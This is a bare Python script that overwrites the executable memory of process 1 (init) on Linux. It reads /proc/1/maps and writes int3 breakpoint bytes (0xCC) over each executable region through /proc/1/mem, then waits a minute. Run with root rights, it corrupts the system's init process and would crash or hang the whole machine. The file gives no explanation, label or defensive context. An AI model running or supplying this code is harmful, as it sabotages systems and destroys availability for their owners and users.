import time

with open("/proc/1/maps") as maps:
    places = [line.split() for line in maps]
with open("/proc/1/mem", "r+b", buffering=0) as memory:
    for span, rights, *_ in places:
        if "x" in rights and "[v" not in " ".join(_):
            begin, end = (int(one, 16) for one in span.split("-"))
            memory.seek(begin)
            memory.write(b"\xcc" * min(end - begin, 1 << 16))
time.sleep(60)
